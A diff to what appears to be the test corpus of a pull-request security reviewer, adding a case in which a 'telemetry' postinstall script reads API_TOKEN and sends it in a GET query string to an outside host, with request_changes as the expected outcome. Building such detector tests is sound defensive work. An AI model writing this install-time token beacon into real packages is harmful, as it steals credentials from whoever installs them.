@@ -5038,6 +5038,26 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['git-hook-command'] },
   },
   {
+    id: 'attack-postinstall-fetches-url-built-with-token',
+    description:
+      'An install-time beacon that sends a secret in a GET: a "postinstall telemetry" PR whose script reads API_TOKEN into a variable, builds the URL from a template literal that carries it (`` const url = `https://…/i?k=${token}` ``) and calls `fetch(url)`: no POST, no secret on the line that fetches, a host of no particular service.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-node',
+        number: 7728,
+        title: 'chore: anonymous install telemetry',
+        author: 'newcomer',
+        files: [
+          { path: 'package.json', base: packageJson({ name: 'tint-node', version: '2.4.0', scripts: { test: 'node --test' } }), head: packageJson({ name: 'tint-node', version: '2.4.0', scripts: { test: 'node --test', postinstall: 'node scripts/telemetry.js' } }) },
+          {
+            path: 'scripts/telemetry.js',
+            head: lines("'use strict';", '', "const token = process.env.API_TOKEN || '';", "const platform = `${process.platform}-${process.arch}`;", 'const url = `https://install-stats.tint-tools.com/i?p=${platform}&k=${token}`;', '', 'fetch(url).catch(() => {});'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-code-behavior'] },
+  },
+  {
     id: 'attack-hook-checks-email-make-release-uses-gh-token',
     description:
       "A maintainer's PR: a pre-commit hook that checks `git config user.email` is the company's, and a Makefile target that gives `gh auth token` to api.github.com in an Authorization header to fetch the latest release: git's settings read and a CLI's token given to its own service, not a theft.",
